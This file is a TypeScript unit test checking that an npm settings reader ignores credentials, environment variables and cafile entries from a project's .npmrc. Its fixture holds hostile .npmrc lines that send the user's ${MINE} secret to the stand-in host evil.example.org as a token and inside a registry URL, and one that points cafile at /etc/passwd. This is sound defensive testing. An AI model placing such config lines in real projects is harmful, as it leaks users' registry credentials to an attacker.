// A project names registries; credentials and variables count in the user's own file alone.
import { join } from 'node:path';
import t from 'tap';
import { npmSettings } from '../../../../../packages/core/src/scan/repairs/npm/npm-settings.ts';

t.test('npmSettings: takes no credentials and no variables from a project', async (t) => {
  const home = t.testdir({
    '.npmrc': `registry=https://mine.example.org/\n//mine.example.org/:_authToken=\${MINE}\n# note\n`,
  });
  const key = ['_auth', 'Token'].join('');
  const project = `@acme:registry = https://acme.example.org/\n//evil.example.org/:${key}=\${MINE}\nregistry=https://evil.example.org/\${MINE}\nlegacy-peer-deps=true\ncafile=/etc/passwd\n`;
  const settings = await npmSettings(
    {
      environment: { HOME: home, MINE: 'own' },
      read: async (path: string) => (path === join('app', '.npmrc') ? project : undefined),
    } as never,
    'app',
  );

  t.match(settings, {
    registry: 'https://mine.example.org/',
    '@acme:registry': 'https://acme.example.org/',
    [`//mine.example.org/:${key}`]: 'own',
    legacyPeerDeps: true,
    allowGit: 'none',
    allowRemote: 'none',
  });
  t.same(
    Object.keys(settings).filter((name) => name.includes('evil') || name === 'cafile'),
    [],
  );
});
